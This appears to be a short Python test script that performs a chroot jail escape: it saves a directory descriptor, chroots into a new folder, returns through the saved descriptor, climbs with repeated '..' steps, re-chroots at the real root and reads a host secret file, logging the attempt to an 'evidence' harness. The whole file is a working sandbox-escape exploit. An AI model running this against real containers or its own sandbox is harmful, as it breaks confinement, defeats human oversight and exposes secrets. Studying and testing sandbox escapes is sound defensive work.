import os

from evidence import attempt, host, read

os.mkdir("cell")

def climb():
    # A process that may change its root and holds a folder above the new one can walk past both.
    outside = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
    os.chroot("cell")
    os.fchdir(outside)
    for _ in range(40):
        os.chdir("..")
    os.chroot(".")
    return read(host["secret_path"])

attempt("climb", climb)
